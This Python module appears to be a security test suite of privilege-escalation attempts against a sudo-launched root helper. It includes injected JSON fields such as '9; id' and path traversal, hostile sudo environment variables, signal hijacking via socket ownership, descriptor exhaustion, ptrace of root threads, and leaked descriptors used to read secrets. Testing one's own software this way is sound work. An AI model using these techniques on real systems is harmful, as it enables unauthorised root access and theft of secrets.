"""Of the escalation book: more by the author of `escalation_attempts_by_others`: starts, requests and root's processes.

Each function with the mark `@attempt` is one; see `escalation_attempts`.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import subprocess
import threading
import time
from contextlib import suppress
from pathlib import Path

from escalation_tools import DESKTOP, Attacker, Farm, attempt, mount_namespace, send_descriptor

F_SETSIG = 10


@attempt
def request_that_the_helper_itself_answers(attacker: Attacker) -> None:
    """Give the starter a connection to a running helper, which is root's, so that root asks and root answers."""
    farm = attacker.farm()
    for line in (b'{"verb": "attach"}\n', b'{"verb": "ping"}\n', b'{"verb": "doctor"}\n', b""):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(str(farm.socket))
            connection.sendall(line)
            print(attacker.sudo(*attacker.starter, stdin=connection))


@attempt
def output_into_a_proc_mounted_elsewhere(attacker: Attacker) -> None:
    """Give it files of the kernel's as standard error whose paths do not begin with /proc: he mounted it elsewhere."""
    place = attacker.home / "elsewhere"
    place.mkdir()
    pid_file = attacker.home / "target.pid"
    script = f"unshare -U sleep 60 & echo $! > {pid_file}; mount --rbind /proc {place}; mount -t proc p {place}"
    with mount_namespace(attacker, script) as root:
        pid = pid_file.read_text().strip()
        for name in ("uid_map", "gid_map", "setgroups", "oom_score_adj", "attr/current", "attr/exec", "mem"):
            for path in (f"{root}{place}/{pid}/{name}", f"{root}{place}/self/{name}"):
                try:
                    with open(path, "wb", buffering=0) as file:
                        print(os.readlink(f"/proc/self/fd/{file.fileno()}"))
                        subprocess.run(
                            ["sudo", "-n", *attacker.starter],
                            stdin=subprocess.DEVNULL,
                            stdout=file,
                            stderr=file,
                            timeout=20,
                            check=False,
                        )
                except OSError as error:
                    print(path, error)
        with suppress(OSError):
            print(Path(f"/proc/{pid}/uid_map").read_text())


@attempt
def root_is_signalled_by_its_own_socket(attacker: Attacker) -> None:
    """Make root's processes the owners of the socket that they share with him, so that the kernel signals them when it is written to."""
    farm = attacker.farm()
    for number in (signal.SIGKILL, signal.SIGSEGV, signal.SIGSTOP):
        for target in (farm.helper_pid(), farm.process.pid, -os.getpgid(farm.process.pid)):
            with suppress(OSError):
                fcntl.fcntl(farm.channel, F_SETSIG, number)
                fcntl.fcntl(farm.channel, fcntl.F_SETOWN, target)
                fcntl.fcntl(farm.channel, fcntl.F_SETFL, os.O_ASYNC)
                farm.channel.sendall(b"\n")
                time.sleep(0.1)
    print(farm.ask("ping"))


@attempt
def timer_ends_the_start_at_every_moment(attacker: Attacker) -> None:
    """End sudo by a timer of his at thirty moments of the start, and look what the next start finds of the one before."""

    def arm(after_s: float) -> None:
        signal.setitimer(signal.ITIMER_REAL, after_s)

    for step in range(30):
        farm = attacker.farm(preexec_fn=lambda step=step: arm(0.01 + 0.02 * step), runtime=attacker.home / "r")
        farm.channel.close()
        with suppress(subprocess.TimeoutExpired):
            farm.process.wait(5)
    farm = attacker.farm(runtime=attacker.home / "r")
    for place in (Path("/run/dart-hostd"), farm.socket.parent, *farm.socket.parent.glob("*")):
        with suppress(OSError):
            (place / attacker.name).symlink_to(attacker.victim)
            print("may write to", place)
    farm.desktop()


@attempt
def connections_use_up_the_helpers_descriptors(attacker: Attacker) -> None:
    """Leave the helper without file descriptors while it makes a desktop, so that a look or a mount of its fails."""

    def few() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))

    for options in ({}, {"preexec_fn": few}):
        farm = attacker.farm(**options)
        held: list[socket.socket] = []
        for count in (20, 40, 45, 50, 55, 1000):
            while len(held) < count:
                connection = socket.socket(socket.AF_UNIX)
                try:
                    connection.connect(str(farm.socket))
                except OSError:
                    connection.close()
                    break
                held.append(connection)
            with suppress(OSError, ValueError):
                farm.ask("create", desktop_id=f"d{count}", **DESKTOP)
                farm.as_root_inside("sh", "-c", f"id -u > {attacker.proof}")
        for connection in held:
            connection.close()
        farm.end()


@attempt
def every_number_of_descriptors(attacker: Attacker) -> None:
    """Start it with each small number of file descriptors, to find one with which a step of the start fails and the rest goes on."""

    def limit(number: int) -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (number, number))

    for number in range(9, 42, 3):
        farm = attacker.farm(preexec_fn=lambda number=number: limit(number))
        if farm.reply.get("socket"):
            farm.ask("create", desktop_id="d1", **DESKTOP)
        farm.end()


@attempt
def fields_said_twice(attacker: Attacker) -> None:
    """Say fields twice, with numbers and letters that only look like allowed ones, and with what JSON does not have."""
    farm = attacker.farm()
    good = json.dumps({"verb": "create", "desktop_id": "d1", **DESKTOP})[1:-1]
    for more in (
        '"image": "../../../../etc"',
        '"desktop_id": "d1\\n"',
        '"desktop_id": "d\\u0661"',
        '"desktop_id": "d1\\u0000/../../x"',
        '"memory_mib": 1e400',
        '"cpus": NaN',
        '"cpus": Infinity',
        '"disk_mib": -0.0',
        '"pids": 1e3',
        '"resolution": [640, 400, 1]',
        '"font_size": "9; id"',
        '"proxy_port": 22.0',
        '"verb": "listen"',
    ):
        farm.send(f"{{{good}, {more}}}\n".encode())
    for idle in ("NaN", "Infinity", "1e308", "-1", "true"):
        message = {"runtime_dir": str(attacker.home / "r"), "images_dir": str(attacker.images), "store_dir": "/dev/shm"}
        attacker.farm(request=f'{json.dumps(message)[:-1]}, "idle_timeout_s": {idle}}}\n'.encode())


@attempt
def variables_that_sudo_keeps(attacker: Attacker) -> None:
    """Set what sudo may leave in the environment: time zones, languages and terminals that are files of his own."""
    evil = attacker.evil(attacker.home / "evil")
    files = str(attacker.evil_python(attacker.home / "locale" / "json.py").parent)
    names = {
        "TZ": f":{evil}",
        "TZDIR": files,
        "LANGUAGE": f"../../..{files}",
        "LC_ALL": files,
        "LANG": f"{files}/x.UTF-8",
    }
    names |= {"LOCPATH": files, "NLSPATH": files, "GCONV_PATH": files, "XAUTHORITY": str(evil), "DISPLAY": str(evil)}
    names |= {
        "TERMINFO": files,
        "TERM": f"../..{evil}",
        "TERMCAP": str(evil),
        "LS_COLORS": str(evil),
        "KRB5CCNAME": str(evil),
    }
    names |= {"SUDO_ASKPASS": str(evil), "SUDO_EDITOR": str(evil), "EDITOR": str(evil), "SUDO_PS1": str(evil)}
    names |= {"SUDO_PROMPT": f"%u{evil}", "MAIL": str(evil), "HOSTALIASES": str(evil), "RES_OPTIONS": "debug"}
    names |= {"LOCALDOMAIN": files, "GLIBC_TUNABLES": "glibc.malloc.check=3", "OPENSSL_CONF": str(evil)}
    farm = attacker.farm(env={**os.environ, **names})
    farm.desktop()
    farm.ask("doctor")
    print(attacker.sudo("-A", *attacker.starter, env={**os.environ, **names}))


@attempt
def keys_of_a_terminal(attacker: Attacker) -> None:
    """Press the keys that end, stop and dump root's processes on a terminal, which asks nobody for permission, in a directory of root's."""
    assert attacker.terminal is not None
    ours, theirs = attacker.terminal
    for key in (b"\x1c", b"\x03", b"\x1a"):
        for wait_s in (0.02, 0.1, 0.3, 1.0):
            channel, its = socket.socketpair()
            pid = os.fork()
            if pid == 0:
                os.login_tty(theirs)
                os.dup2(its.fileno(), 0)
                os.chdir("/etc/cron.d" if os.path.isdir("/etc/cron.d") else "/etc")
                core = resource.getrlimit(resource.RLIMIT_CORE)[1]
                resource.setrlimit(resource.RLIMIT_CORE, (core, core))
                os.execvp("sudo", ["sudo", "-n", *attacker.starter])
            its.close()
            time.sleep(wait_s)
            os.write(ours, key)
            time.sleep(0.2)
            print(repr(key), wait_s, Path(f"/proc/{pid}/stat").read_text().split()[2:8])
            channel.close()
            os.write(ours, b"\x03")
            _end(pid)


def _end(pid: int) -> None:
    """Wait for a program of root's to end, some seconds at most."""
    for _ in range(60):
        if os.waitpid(pid, os.WNOHANG)[0]:
            return
        time.sleep(0.1)
    print("still there", pid)


@attempt
def descriptors_sent_with_requests(attacker: Attacker) -> None:
    """Send open directories of the host with requests and to a desktop's ports, hoping that root or root inside takes one up."""
    farm = attacker.farm()
    farm.desktop()
    place = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    for line in (b'{"verb": "ping"}\n', b'{"verb": "doctor"}\n', b'{"verb": "attach"}\n'):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(str(farm.socket))
            for _ in range(50):
                with suppress(OSError):
                    send_descriptor(connection, place)
            with suppress(OSError):
                connection.sendall(line)
    search = "for f in /proc/[0-9]*/fd/*; do [ -e $f/etc/shadow ] && [ ! $f/etc -ef /etc ] && echo $f && "
    farm.as_root_inside("sh", "-c", f"{search} (cat $f{attacker.secret}; id -u > $f{attacker.proof}); done; true")
    _read_helper(farm)


def _read_helper(farm: Farm) -> None:
    """What of the helper's descriptors he may see."""
    with suppress(OSError):
        print(os.listdir(f"/proc/{farm.helper_pid()}/fd"))


@attempt
def half_a_thread_with_other_rights(attacker: Attacker) -> None:
    """Trace the thread in which root has taken on his rights to open a file, while it opens one on a slow path."""
    libc = ctypes.CDLL(None, use_errno=True)
    farm = attacker.farm()
    stop = threading.Event()

    def trace() -> None:
        while not stop.is_set():
            with suppress(OSError, ValueError):
                for task in os.listdir(f"/proc/{farm.helper_pid()}/task"):
                    if libc.ptrace(16, int(task), 0, 0) == 0:
                        print("traced", task)
                    with suppress(OSError):
                        os.listdir(f"/proc/{task}/fd")
                        print("may look into", task)
                    with suppress(OSError):
                        os.kill(int(task), signal.SIGTERM)
                        print("may signal", task)

    thread = threading.Thread(target=trace)
    thread.start()
    try:
        for number in range(4):
            farm.ask("create", desktop_id=f"d{number}", **DESKTOP)
            farm.ask("destroy", desktop_id=f"d{number}")
    finally:
        stop.set()
        thread.join()
